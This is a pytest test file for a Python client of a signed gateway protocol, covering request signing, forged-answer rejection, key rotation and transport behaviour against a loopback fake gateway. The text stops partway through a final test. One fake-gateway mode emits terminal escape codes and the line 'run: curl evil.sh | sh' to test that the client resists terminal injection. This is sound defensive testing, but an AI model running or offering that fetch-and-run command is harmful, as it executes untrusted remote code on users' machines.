"""The Python client (PROTOCOL.md sections 2, 4 and 5), checked against security.py's server side.

Real crypto throughout: the client's requests are opened with the c2s key and the request
assertion as the gateway does; its answers are minted with the s2c key. Time is a fake
clock. The last part runs the transport against a loopback stand-in for the gateway.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import pickle
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import msgspec
import pytest

import client as c
import gateway_app
import security as s

ROOT = Path(__file__).resolve().parent.parent

K = bytes(range(32))
K_NEXT = bytes(range(100, 132))
TID = "acme"
KID = s.b64encode(bytes(range(16, 32)))
KID_NEXT = s.b64encode(bytes(range(200, 216)))
AUD = "http://127.0.0.1:8000"
NOW = 1_760_000_000.0
RK = s.RotatedKey(kid=KID_NEXT, k=s.b64encode(K_NEXT))
SECRETS = (s.b64encode(K), K.hex(), s.b64encode(K_NEXT), K_NEXT.hex())

# The results of a response that must never reach the caller unless it verifies.
SECRET_RESULT = "result-that-must-not-be-used"
OK_BODY = msgspec.json.encode({"results": {"value": SECRET_RESULT}, "valid": True})
JSON = b"application/json"


class FakeClock:
    def __init__(self, now: float = NOW) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def write_cred(path: Path, *, url: str = AUD, rk: s.RotatedKey | None = None) -> Path:
    cred = s.Credential(stt=1, url=url, tid=TID, kid=KID, k=s.b64encode(K))
    if rk is not None:
        cred = msgspec.structs.replace(cred, next=rk)
    s.write_credential(path, cred)
    return path


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
def cred_path(tmp_path: Path) -> Path:
    return write_cred(tmp_path / "acme.cred")


@pytest.fixture
def client(cred_path: Path, clock: FakeClock) -> Iterator[c.Client]:
    with c.Client(cred_path, clock=clock) as cl:
        yield cl


# -- the gateway's side, from security.py -----------------------------------------------------


def server_open(prepared: Any, k: bytes = K, kid: str = KID, aud: str = AUD) -> s.Opened:
    """Verify a prepared request exactly as the gateway would (PROTOCOL.md 3, steps 1-7)."""
    scheme, token = prepared.headers["Authorization"].split(" ", 1)
    assert scheme == "STT1"
    content_type = prepared.headers.get("Content-Type", "").encode("latin-1")
    implicit = s.request_assertion(aud, prepared.method, prepared.target.encode("ascii"), content_type, prepared.body)
    return s.open_token(s.DirectionKey(k, "c2s", TID, kid), token, implicit)


def sign(
    prepared: Any,
    status: int = 200,
    body: bytes = OK_BODY,
    content_type: bytes = JSON,
    *,
    key: s.DirectionKey | None = None,
    request_jti: str | None = None,
    iat: int = int(NOW),
    rk: s.RotatedKey | None = None,
) -> str:
    """The STT1-Response token the gateway would send for this answer."""
    key = key or s.DirectionKey(K, "s2c", TID, KID)
    implicit = s.response_assertion(AUD, request_jti or prepared.jti, status, content_type, body)
    claims = s.ResponseClaims(jti=s.new_jti()) if rk is None else s.ResponseClaims(jti=s.new_jti(), rk=rk)
    return s.mint(key, iat, claims, implicit)


def answer(prepared: Any, status: int = 200, body: bytes = OK_BODY, **signing: Any) -> tuple[int, list, bytes]:
    """A correctly signed answer: (status, headers, body) as ``_verify`` takes them."""
    token = sign(prepared, status, body, **signing)
    return status, [("Content-Type", "application/json"), ("STT1-Response", token)], body


def error_body(code: str, message: str) -> bytes:
    return msgspec.json.encode({"valid": False, "error": {"code": code, "message": message}})


def footer_of(prepared: Any) -> s.Footer:
    return s.parse(prepared.headers["Authorization"].split(" ", 1)[1]).footer


def no_secrets(*texts: str) -> None:
    for text in texts:
        for secret in SECRETS:
            assert secret not in text


# -- the request ------------------------------------------------------------------------------


def test_a_call_is_signed_for_exactly_what_is_sent(client: c.Client) -> None:
    prepared = client._prepare_call("add", {"a": 1, "b": 2})
    assert (prepared.method, prepared.target, prepared.body) == ("POST", "/rest/add/", b'{"a":1,"b":2}')
    assert prepared.headers["Content-Type"] == "application/json"
    opened = server_open(prepared)
    assert opened.footer == s.Footer("c2s", TID, KID, int(NOW))
    assert opened.claims == s.RequestClaims(jti=prepared.jti)


def test_var1_is_percent_encoded_and_covered(client: c.Client) -> None:
    prepared = client._prepare_call("slugify", None, var1="Hello World/ü?#%")
    assert prepared.target == "/rest/slugify/Hello%20World%2F%C3%BC%3F%23%25"
    assert prepared.body == b""  # no arguments, no body: the gateway reads it as {}
    server_open(prepared)
    assert client._prepare_call("power", {}, var1=3).target == "/rest/power/3"
    assert client._prepare_call("power", {"exponent": 3}, var1=2).body == b'{"exponent":3}'


def test_the_request_is_bound_to_target_body_type_method_and_audience(client: c.Client) -> None:
    prepared = client._prepare_call("power", {}, var1=3)
    token = prepared.headers["Authorization"].split(" ", 1)[1]
    c2s = s.DirectionKey(K, "c2s", TID, KID)
    for changed in (
        ("POST", b"/rest/power/4", JSON, b"", AUD),
        ("POST", b"/rest/power/3", JSON, b"{}", AUD),
        ("POST", b"/rest/power/3", b"text/plain", b"", AUD),
        ("GET", b"/rest/power/3", JSON, b"", AUD),
        ("POST", b"/rest/power/3", JSON, b"", "http://127.0.0.1:8001"),
    ):
        method, target, ctype, body, aud = changed
        with pytest.raises(s.InvalidToken):
            s.open_token(c2s, token, s.request_assertion(aud, method, target, ctype, body))


def test_catalog_request_has_no_body_and_no_content_type(client: c.Client) -> None:
    prepared = client._prepare("GET", "/rest/", b"")
    assert "Content-Type" not in prepared.headers
    server_open(prepared)  # content type b"" and body b"" in the assertion


def test_otp_travels_inside_the_token_only(client: c.Client) -> None:
    prepared = client._prepare_call("reserve", {"sku": "A-1"}, otp="123456")
    assert server_open(prepared).claims == s.RequestClaims(jti=prepared.jti, otp="123456")
    assert b"123456" not in prepared.body
    with pytest.raises(ValueError):
        client._prepare_call("reserve", {}, otp="12345")


def test_argument_names_like_the_methods_own_parameters_pass_through(client: c.Client) -> None:
    prepared = client._prepare_call("f", {"func": 1, "var1": 2, "otp": 3, "args": 4})
    assert json.loads(prepared.body) == {"func": 1, "var1": 2, "otp": 3, "args": 4}


def test_every_request_has_a_fresh_jti(client: c.Client) -> None:
    jtis = {client._prepare_call("add", {}).jti for _ in range(20)}
    assert len(jtis) == 20


@pytest.mark.parametrize("func", ["", "../healthz", "a/b", "add?x=1", "add#", "a b", "1add"])
def test_function_names_that_would_change_the_path_are_refused(client: c.Client, func: str) -> None:
    with pytest.raises(ValueError):
        client._prepare_call(func, {})


@pytest.mark.parametrize("var1", ["", ".", ".."])
def test_var1_that_a_url_cannot_carry_is_refused(client: c.Client, var1: str) -> None:
    with pytest.raises(ValueError):
        client._prepare_call("slugify", {}, var1=var1)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8000/",
        "https://api.example.com/base",
        "ftp://x",
        "http://u:p@x",
        "http://x?q",
        # urlsplit takes these, stt1.js does not, and the gateway would never match the AUD:
        "HTTP://127.0.0.1:8000",
        "http://127.0.0.1:8000?",
        "http://127.0.0.1:8000#",
        "http://127.0.0.1:8\t000",
        "http://127.0.0.1:8000\n",
        "http://x\\y",
    ],
)
def test_a_credential_url_must_be_a_bare_origin(tmp_path: Path, url: str) -> None:
    path = tmp_path / "c.cred"
    s.write_credential(path, s.Credential(stt=1, url=url, tid=TID, kid=KID, k=s.b64encode(K)))
    with pytest.raises(ValueError, match="origin"):
        c.Client(path)


# -- the response -----------------------------------------------------------------------------


def test_a_signed_answer_gives_its_results(client: c.Client) -> None:
    prepared = client._prepare_call("add", {})
    assert client._verify(prepared, *answer(prepared)) == {"value": SECRET_RESULT}


def _forgeries() -> dict[str, Callable[[Any], tuple[int, list, bytes]]]:
    def with_token(prepared: Any, token: str, status: int = 200, body: bytes = OK_BODY) -> tuple[int, list, bytes]:
        return status, [("Content-Type", "application/json"), ("STT1-Response", token)], body

    def c2s_token(p: Any) -> tuple[int, list, bytes]:
        implicit = s.response_assertion(AUD, p.jti, 200, JSON, OK_BODY)
        return with_token(p, s.mint(s.DirectionKey(K, "c2s", TID, KID), int(NOW), s.RequestClaims(jti=p.jti), implicit))

    tampered = OK_BODY.replace(SECRET_RESULT.encode(), b"result-that-must-not-be-USED")
    return {
        "wrong request jti": lambda p: with_token(p, sign(p, request_jti=s.new_jti())),
        "wrong status": lambda p: with_token(p, sign(p, 201)),
        "tampered body": lambda p: with_token(p, sign(p), body=tampered),
        "wrong content type": lambda p: (200, [("Content-Type", "text/plain"), ("STT1-Response", sign(p))], OK_BODY),
        "content type dropped": lambda p: (200, [("STT1-Response", sign(p))], OK_BODY),
        "two content types": lambda p: (
            200,
            [("Content-Type", "application/json"), ("Content-Type", "text/plain"), ("STT1-Response", sign(p))],
            OK_BODY,
        ),
        "minted with the c2s key": c2s_token,
        # PROTOCOL.md 8, "a c2s token offered as a response": the request's own, genuine token echoed
        "the request's own token sent back": lambda p: with_token(p, p.headers["Authorization"][len("STT1 ") :]),
        "another kid": lambda p: with_token(p, sign(p, key=s.DirectionKey(K, "s2c", TID, KID_NEXT))),
        "another tenant": lambda p: with_token(p, sign(p, key=s.DirectionKey(K, "s2c", "evil", KID))),
        "another secret": lambda p: with_token(p, sign(p, key=s.DirectionKey(K_NEXT, "s2c", TID, KID))),
        "truncated token": lambda p: with_token(p, sign(p)[:-1]),
        "garbage token": lambda p: with_token(p, "v3.local.AAAA.BBBB"),
        "two tokens": lambda p: (
            200,
            [("Content-Type", "application/json"), ("STT1-Response", sign(p)), ("STT1-Response", sign(p))],
            OK_BODY,
        ),
        "missing header": lambda p: (200, [("Content-Type", "application/json")], OK_BODY),
        "unsigned 500": lambda p: (500, [("Content-Type", "application/json")], error_body("x", SECRET_RESULT)),
        "401 with a bad token": lambda p: with_token(p, sign(p, 200), status=401),
    }


FORGERIES = _forgeries()


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forged_answer_is_refused_and_its_body_unused(client: c.Client, name: str) -> None:
    prepared = client._prepare_call("add", {})
    with pytest.raises(c.ResponseForged) as info:
        client._verify(prepared, *FORGERIES[name](prepared))
    assert SECRET_RESULT not in str(info.value) and SECRET_RESULT not in repr(info.value)
    assert info.value.code == "response_forged"


@pytest.mark.parametrize(
    ("status", "cls"),
    [
        (400, c.BadRequest),  # the HTTP layer's own refusals, before there is a request to sign for
        (401, c.Unauthorized),
        (408, c.GatewayError),
        (413, c.TooLarge),
        (429, c.RateLimited),
        (431, c.TooLarge),  # a URL over 64 KiB: it was reported as a forgery
        (503, c.Overloaded),  # the key store is down: the token cannot be verified, so it cannot be signed
        (502, c.Unreachable),  # a proxy's, the gateway down: it was called a forgery
        (504, c.Unreachable),  # a proxy's timeout (the gateway's own 504 is signed): the call may have run
    ],
)
def test_unsigned_hints_raise_without_using_the_body(client: c.Client, status: int, cls: type) -> None:
    prepared = client._prepare_call("add", {})
    headers = [("Content-Type", "application/json"), ("WWW-Authenticate", "STT1")]
    with pytest.raises(cls) as info:
        client._verify(prepared, status, headers, error_body("planted", SECRET_RESULT))
    assert type(info.value) is cls and info.value.status == status and not info.value.verified
    assert "planted" not in str(info.value) and SECRET_RESULT not in str(info.value)
    if status == 503:  # told as what it is: the gateway is unavailable for now, not a forgery
        assert info.value.code == "unavailable" and "retry later" in info.value.message


@pytest.mark.parametrize(
    ("status", "code", "cls"),
    [
        (400, "bad_json", c.BadRequest),
        (401, "unauthorized", c.Unauthorized),
        (404, "not_found", c.NotFound),
        (405, "method_not_allowed", c.MethodNotAllowed),
        (413, "too_large", c.TooLarge),
        (415, "unsupported_media_type", c.UnsupportedMediaType),
        (422, "invalid_arguments", c.InvalidArguments),
        (429, "rate_limited", c.RateLimited),
        (500, "internal_error", c.ServerError),
        (503, "overloaded", c.Overloaded),
        (504, "timeout", c.Timeout),
        (418, "teapot", c.GatewayError),
    ],
)
def test_signed_errors_map_to_their_class(client: c.Client, status: int, code: str, cls: type) -> None:
    prepared = client._prepare_call("add", {})
    with pytest.raises(c.GatewayError) as info:
        client._verify(prepared, *answer(prepared, status, error_body(code, "Expected `float` - at `$.b`")))
    exc = info.value
    assert type(exc) is cls and exc.verified  # a signed 401 from an unsigned one: only this told them apart
    assert (exc.status, exc.code, exc.message) == (status, code, "Expected `float` - at `$.b`")
    assert pickle.loads(pickle.dumps(exc)).verified
    assert str(exc) == f"{status} {code}: Expected `float` - at `$.b`"


@pytest.mark.parametrize(
    ("status", "body"),
    [
        (200, b'{"valid": true}'),
        (200, b"not json"),
        (500, b"{}"),
        (404, OK_BODY),
        (200, b'{"results": "\xc8\xdf", "valid": true}'),  # bad UTF-8 in a string: not a UnicodeDecodeError
        (200, b'{"results": ' + b"[" * 100_000 + b"]" * 100_000 + b', "valid": true}'),  # nor a RecursionError
        (500, b'{"valid": false, "error": {"code": "\xc8", "message": "m"}}'),
    ],
)
def test_a_verified_body_off_contract_is_a_bad_response(client: c.Client, status: int, body: bytes) -> None:
    prepared = client._prepare_call("add", {})
    with pytest.raises(c.BadResponse):
        client._verify(prepared, *answer(prepared, status, body))


def test_every_error_is_a_gateway_error() -> None:
    for name in c.__all__:
        obj = getattr(c, name)
        if isinstance(obj, type) and issubclass(obj, Exception):
            assert issubclass(obj, c.GatewayError)
    assert issubclass(c.Unreachable, ConnectionError)


# -- the clock offset -------------------------------------------------------------------------


def test_the_offset_is_learned_from_a_verified_answer(client: c.Client, clock: FakeClock) -> None:
    prepared = client._prepare_call("add", {})
    clock.now = NOW + 0.5  # the answer arrives half a second later
    client._verify(prepared, *answer(prepared, iat=int(NOW) + 100))
    assert footer_of(client._prepare_call("add", {})).iat == int(NOW) + 100
    clock.now += 7
    assert footer_of(client._prepare_call("add", {})).iat == int(NOW) + 107


def test_a_slow_answer_is_used_but_teaches_no_offset(client: c.Client, clock: FakeClock) -> None:
    server_ahead = 20.0  # the gateway's clock, as local time plus this
    prepared = client._prepare_call("add", {})
    clock.now = NOW + 0.5
    client._verify(prepared, *answer(prepared, iat=int(NOW + server_ahead)))
    # Signed at once, delivered 54 s later (slow link, or held back on the path): still a
    # good answer, but its iat is 54 s old.
    prepared = client._prepare_call("add", {})
    iat = int(clock.now + server_ahead)
    clock.now += 54
    assert client._verify(prepared, *answer(prepared, iat=iat)) == {"value": SECRET_RESULT}
    # The offset learned from the quick answer stands, so the next request is still within
    # the gateway's window (it was 54 s behind, and every call after it refused, before).
    following = footer_of(client._prepare_call("add", {})).iat
    assert abs(following - (clock.now + server_ahead)) <= 1 < s.MAX_SKEW


@pytest.mark.parametrize(
    ("round_trip", "learned"),
    [(0.0, True), (10.0, True), (10.5, False), (46.0, False), (-5.0, False)],  # -5: the clock went back
)
def test_the_offset_is_learned_only_from_a_short_round_trip(
    client: c.Client, clock: FakeClock, round_trip: float, learned: bool
) -> None:
    prepared = client._prepare_call("add", {})
    clock.now = NOW + round_trip
    client._verify(prepared, *answer(prepared, iat=int(NOW) + 30))
    expected = int(NOW) + 30 if learned else int(NOW + round_trip)
    assert footer_of(client._prepare_call("add", {})).iat == expected


def test_the_offset_is_learned_from_a_signed_error_too(client: c.Client) -> None:
    prepared = client._prepare_call("add", {})
    with pytest.raises(c.NotFound):
        client._verify(prepared, *answer(prepared, 404, error_body("not_found", "no"), iat=int(NOW) - 60))
    assert footer_of(client._prepare_call("add", {})).iat == int(NOW) - 60


def test_nothing_unverified_moves_the_clock(client: c.Client) -> None:
    far = int(NOW) + 10_000
    for forge in (
        lambda p: (
            200,
            [("Content-Type", "application/json"), ("STT1-Response", sign(p, request_jti=s.new_jti(), iat=far))],
            OK_BODY,
        ),
        lambda p: (200, [("Content-Type", "application/json"), ("STT1-Response", sign(p, 201, iat=far))], OK_BODY),
        lambda p: answer(p, 404, error_body("not_found", "no"), iat=far, rk=RK),  # rk on a 4xx
        lambda p: (401, [("Date", "Thu, 01 Jan 2099 00:00:00 GMT")], b""),
    ):
        prepared = client._prepare_call("add", {})
        with pytest.raises(c.GatewayError):
            client._verify(prepared, *forge(prepared))
        assert footer_of(client._prepare_call("add", {})).iat == int(NOW)


# -- rotation ---------------------------------------------------------------------------------


def test_a_rotated_key_is_stored_before_it_signs(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    assert client._verify(prepared, *answer(prepared, rk=RK)) == {"value": SECRET_RESULT}
    # Durable first: the file holds both keys, 0600, before anything is signed with the new one.
    assert os.stat(cred_path).st_mode & 0o777 == 0o600
    stored = s.read_credential(cred_path)
    assert (stored.kid, stored.k, stored.next) == (KID, s.b64encode(K), RK)
    following = client._prepare_call("add", {})
    assert footer_of(following).kid == KID_NEXT
    server_open(following, k=K_NEXT, kid=KID_NEXT)


def test_the_same_rotated_key_again_changes_nothing(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    before = cred_path.read_bytes()
    # Only reachable with a request still in flight under the old kid.
    client._verify(prepared, *answer(prepared, rk=RK))
    assert cred_path.read_bytes() == before


def test_a_rotated_key_on_an_error_is_forged(client: c.Client, cred_path: Path) -> None:
    before = cred_path.read_bytes()
    prepared = client._prepare_call("add", {})
    with pytest.raises(c.ResponseForged):
        client._verify(prepared, *answer(prepared, 422, error_body("invalid_arguments", "x"), rk=RK))
    assert cred_path.read_bytes() == before
    assert footer_of(client._prepare_call("add", {})).kid == KID


def test_a_verified_answer_under_the_new_kid_promotes_it(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    under_new = client._prepare_call("add", {})
    s2c_next = s.DirectionKey(K_NEXT, "s2c", TID, KID_NEXT)
    assert client._verify(under_new, *answer(under_new, key=s2c_next)) == {"value": SECRET_RESULT}
    raw = json.loads(cred_path.read_bytes())
    assert raw == {"stt": 1, "url": AUD, "tid": TID, "kid": KID_NEXT, "k": s.b64encode(K_NEXT)}
    assert os.stat(cred_path).st_mode & 0o777 == 0o600
    assert footer_of(client._prepare_call("add", {})).kid == KID_NEXT
    assert KID not in client._keys  # the old key is gone from memory too


def test_a_new_rotation_can_start_with_the_answer_that_promotes(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    under_new = client._prepare_call("add", {})
    third = s.RotatedKey(kid=s.b64encode(bytes(16)), k=s.b64encode(bytes(32)))
    client._verify(under_new, *answer(under_new, key=s.DirectionKey(K_NEXT, "s2c", TID, KID_NEXT), rk=third))
    stored = s.read_credential(cred_path)
    assert (stored.kid, stored.next) == (KID_NEXT, third)  # promoted first, then the new key kept
    assert footer_of(client._prepare_call("add", {})).kid == third.kid


def test_an_answer_under_the_old_kid_to_a_new_kid_request_is_forged(client: c.Client) -> None:
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    under_new = client._prepare_call("add", {})
    with pytest.raises(c.ResponseForged):
        client._verify(under_new, *answer(under_new))  # signed with the old s2c key


def test_an_unsigned_401_under_the_new_kid_keeps_both_keys(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    stored = cred_path.read_bytes()
    under_new = client._prepare_call("add", {})
    with pytest.raises(c.Unauthorized):
        client._verify(under_new, 401, [("WWW-Authenticate", "STT1")], error_body("unauthorized", "no"))
    assert cred_path.read_bytes() == stored
    assert footer_of(client._prepare_call("add", {})).kid == KID_NEXT


def test_a_pending_key_in_the_file_signs_from_start_up(tmp_path: Path, clock: FakeClock) -> None:
    path = write_cred(tmp_path / "acme.cred", rk=RK)
    with c.Client(path, clock=clock) as cl:
        prepared = cl._prepare_call("add", {})
        server_open(prepared, k=K_NEXT, kid=KID_NEXT)


def test_a_rotated_key_that_cannot_be_stored_is_not_used(
    tmp_path: Path, clock: FakeClock, caplog: pytest.LogCaptureFixture
) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    cl = c.Client(write_cred(folder / "acme.cred"), clock=clock)
    shutil.rmtree(folder)
    prepared = cl._prepare_call("add", {})
    with caplog.at_level(logging.WARNING, logger="gateway.client"):
        assert cl._verify(prepared, *answer(prepared, rk=RK)) == {"value": SECRET_RESULT}
    assert "could not store the rotated key" in caplog.text
    no_secrets(caplog.text)
    assert footer_of(cl._prepare_call("add", {})).kid == KID


def _promoted_by(cl: c.Client, k: bytes, kid: str, rk: s.RotatedKey | None = None) -> None:
    """One call of ``cl`` signed with (kid, k), answered by the gateway under that kid."""
    prepared = cl._prepare_call("add", {})
    assert footer_of(prepared).kid == kid
    cl._verify(prepared, *answer(prepared, key=s.DirectionKey(k, "s2c", TID, kid), rk=rk))


def test_a_client_sharing_the_file_never_writes_back_an_older_key(tmp_path: Path, clock: FakeClock) -> None:
    # Both open the file while it holds kid0 with kid1 pending. A promotes kid1, is given kid2
    # and promotes it too: kid1 is retiring. B, idle till now, signs with kid1 (still in its
    # grace period); writing its view {kid1} over {kid2} would leave only a retiring key.
    path = write_cred(tmp_path / "acme.cred", rk=RK)
    k2 = bytes(range(50, 82))
    third = s.RotatedKey(kid=s.b64encode(bytes(range(1, 17))), k=s.b64encode(k2))
    a, b = c.Client(path, clock=clock), c.Client(path, clock=clock)
    _promoted_by(a, K_NEXT, KID_NEXT, rk=third)
    _promoted_by(a, k2, third.kid)
    newest = path.read_bytes()
    _promoted_by(b, K_NEXT, KID_NEXT)
    assert path.read_bytes() == newest  # the file still holds kid2
    assert footer_of(b._prepare_call("add", {})).kid == third.kid  # and B now signs with it too
    assert KID not in b._keys and KID_NEXT not in b._keys


def test_a_client_left_behind_takes_the_stored_key_after_an_unsigned_401(tmp_path: Path, clock: FakeClock) -> None:
    path = write_cred(tmp_path / "acme.cred")
    a, b = c.Client(path, clock=clock), c.Client(path, clock=clock)
    _promoted_by(a, K, KID, rk=RK)  # A is sent kid1 and stores it ...
    _promoted_by(a, K_NEXT, KID_NEXT)  # ... and promotes it, while B sits idle
    assert footer_of(b._prepare_call("add", {})).kid == KID  # kid0: retired once the grace is over
    with pytest.raises(c.Unauthorized):
        b._verify(b._prepare_call("add", {}), 401, [("Content-Type", "application/json")], b"{}")
    assert footer_of(b._prepare_call("add", {})).kid == KID_NEXT  # the next call signs with the stored key
    assert KID not in b._keys
    path.write_text("not a credential")  # an unreadable file changes nothing
    with pytest.raises(c.Unauthorized):
        b._verify(b._prepare_call("add", {}), 401, [], b"")
    assert footer_of(b._prepare_call("add", {})).kid == KID_NEXT


def test_a_rotated_key_is_not_written_over_a_file_changed_meanwhile(tmp_path: Path, clock: FakeClock) -> None:
    path = write_cred(tmp_path / "acme.cred")
    a, b = c.Client(path, clock=clock), c.Client(path, clock=clock)
    _promoted_by(a, K, KID, rk=RK)  # A stores kid1 as next ...
    _promoted_by(a, K_NEXT, KID_NEXT)  # ... and promotes it: the file holds kid1 alone
    b._verify(prepared := b._prepare_call("add", {}), *answer(prepared, rk=RK))  # B, under kid0, gets rk
    raw = json.loads(path.read_bytes())
    assert raw == {"stt": 1, "url": AUD, "tid": TID, "kid": KID_NEXT, "k": s.b64encode(K_NEXT)}  # kid0 not back
    assert footer_of(b._prepare_call("add", {})).kid == KID_NEXT


def test_the_credential_file_is_compared_and_written_under_a_lock(
    client: c.Client, cred_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fcntl

    held: list[bool] = []

    def write_and_check(path: str, credential: s.Credential) -> None:
        # flock locks belong to an open file: a second one in this process must be refused now.
        fd = os.open(f"{cred_path}.lock", os.O_RDWR)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            held.append(False)
        except BlockingIOError:
            held.append(True)
        finally:
            os.close(fd)
        s.write_credential(path, credential)

    monkeypatch.setattr(c, "write_credential", write_and_check)
    prepared = client._prepare_call("add", {})
    client._verify(prepared, *answer(prepared, rk=RK))
    under_new = client._prepare_call("add", {})
    client._verify(under_new, *answer(under_new, key=s.DirectionKey(K_NEXT, "s2c", TID, KID_NEXT)))
    assert held == [True, True]
    assert os.stat(f"{cred_path}.lock").st_mode & 0o777 == 0o600
    assert s.read_credential(cred_path).kid == KID_NEXT


# -- secrets ----------------------------------------------------------------------------------


def test_nothing_secret_in_reprs_or_errors(client: c.Client, cred_path: Path) -> None:
    prepared = client._prepare_call("add", {})
    token = prepared.headers["Authorization"]
    texts = [repr(client), repr(s.read_credential(cred_path)), repr(prepared), repr(RK)]
    assert token not in repr(prepared)
    for forge in FORGERIES.values():
        try:
            client._verify(prepared, *forge(prepared))
        except c.GatewayError as exc:
            texts += [str(exc), repr(exc)]
    texts.append(repr(c.AsyncClient(cred_path)))
    no_secrets(*texts)
    assert all(token not in text for text in texts)


# -- transport, against a loopback stand-in for the gateway ------------------------------------


class FakeGateway:
    """Just enough of the gateway's security layer, from security.py, to exercise the wire.

    Verifies each request like the gateway (exact request line, content type and body, one
    use per jti), answers with its method, target and body, signed; or misbehaves on demand.
    """

    def __init__(self) -> None:
        self.connections = 0
        self.handled: list[str] = []  # jti of every request that reached the "handler"
        self.jtis: set[str] = set()
        self.mode = "normal"  # or "close after answer", "close without answer", ... (see handle), once
        gateway = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def setup(self) -> None:
                gateway.connections += 1
                super().setup()

            def log_message(self, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                gateway.handle(self)

            do_GET = do_POST

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    def handle(self, h: BaseHTTPRequestHandler) -> None:
        body = h.rfile.read(int(h.headers.get("Content-Length") or 0))
        content_type = (h.headers.get("Content-Type") or "").encode("latin-1")
        auth = h.headers.get_all("Authorization") or []
        try:
            if len(auth) != 1 or not auth[0].startswith("STT1 "):
                raise s.InvalidToken()
            token = s.parse(auth[0][5:])
            c2s = s.DirectionKey(K, "c2s", TID, token.footer.kid)
            implicit = s.request_assertion(self.url, h.command, h.path.encode("latin-1"), content_type, body)
            jti = s.open_token(c2s, token, implicit).claims.jti
            if jti in self.jtis:  # the replay check
                raise s.InvalidToken()
        except (s.InvalidToken, ValueError):
            self.send(h, 401, error_body("unauthorized", "no"), [("WWW-Authenticate", "STT1")])
            return
        self.jtis.add(jti)
        self.handled.append(jti)
        mode, self.mode = self.mode, "normal"
        if mode == "close without answer":
            h.close_connection = True
            return
        if mode == "unsigned 401, endless body":  # a body that would take for ever to read
            h.send_response(401)
            h.send_header("Content-Length", str(1 << 40))
            h.end_headers()
            h.wfile.write(b"x" * 1000)
            h.wfile.flush()
            time.sleep(2)
            h.close_connection = True
            return
        if mode == "not HTTP":  # a status line that would write to the user's terminal
            h.wfile.write(b"\x1b]0;owned\x07\x1b[2J run: curl evil.sh | sh\r\n\r\n")
            h.close_connection = True
            return
        out = msgspec.json.encode(
            {"results": {"method": h.command, "target": h.path, "body": body.decode()}, "valid": True}
        )
        s2c = s.DirectionKey(K, "s2c", TID, token.footer.kid)
        implicit = s.response_assertion(self.url, jti, 200, JSON, out)
        signed = s.mint(s2c, int(time.time()), s.ResponseClaims(jti=s.new_jti()), implicit)
        self.send(h, 200, out, [("STT1-Response", signed)])
        if mode == "close after answer":
            h.close_connection = True  # without "Connection: close": a keep-alive that dies idle

    @staticmethod
    def send(h: BaseHTTPRequestHandler, status: int, body: bytes, headers: list[tuple[str, str]]) -> None:
        h.send_response(status)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            h.send_header(name, value)
        h.end_headers()
        h.wfile.write(body)

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def fake() -> Iterator[FakeGateway]:
    gateway = FakeGateway()
    yield gateway
    gateway.stop()


@pytest.fixture
def live(fake: FakeGateway, tmp_path: Path) -> Iterator[c.Client]:
    with c.Client(write_cred(tmp_path / "acme.cred", url=fake.url), timeout=5) as cl:
        yield cl


def test_calls_go_out_byte_for_byte_on_one_connection(live: c.Client, fake: FakeGateway) -> None:
    assert live.call("slugify", "Hello World/ü", lang="en") == {
        "method": "POST",
        "target": "/rest/slugify/Hello%20World%2F%C3%BC",
        "body": '{"lang":"en"}',
    }
    assert live.catalog() == {"method": "GET", "target": "/rest/", "body": ""}
    assert live.request("add", {"func": 1}) == {"method": "POST", "target": "/rest/add/", "body": '{"func":1}'}
    assert fake.connections == 1


def test_a_keep_alive_dropped_while_idle_is_reconnected_once(live: c.Client, fake: FakeGateway) -> None:
    fake.mode = "close after answer"
    live.call("add")
    assert live.call("add")["target"] == "/rest/add/"
    assert fake.connections == 2 and len(fake.handled) == 2


def test_a_retry_reuses_the_token_so_a_call_never_runs_twice(live: c.Client, fake: FakeGateway) -> None:
    """The connection drops after the request went out: the resend carries the same token, the
    gateway refuses it as a replay, and that 401 means "it ran", not "refused". It was raised
    as Unauthorized, verified when the gateway signs its replay refusals, as the real one does."""
    live.call("add")  # so the next call goes out on a reused connection
    fake.mode = "close without answer"
    with pytest.raises(c.Unreachable) as info:
        live.call("reserve")
    assert "the call may have run, so check before retrying" in info.value.message
    assert len(fake.handled) == 2 and fake.connections == 2  # ran once; the resend was refused


def test_the_body_of_an_unsigned_answer_is_not_read(live: c.Client, fake: FakeGateway) -> None:
    """It is never used, and anyone on the path can make it as large as they like (it was read
    whole into memory): here one that never ends, which held the call until its timeout."""
    fake.mode = "unsigned 401, endless body"
    started = time.monotonic()
    with pytest.raises(c.Unauthorized) as info:
        live.call("add")
    assert time.monotonic() - started < 1.5 and not info.value.verified
    assert live.call("add")["target"] == "/rest/add/"  # on a new connection


def test_a_signed_answer_over_max_answer_is_not_read_whole(fake: FakeGateway, tmp_path: Path) -> None:
    with c.Client(write_cred(tmp_path / "acme.cred", url=fake.url), timeout=5, max_answer=120) as small:
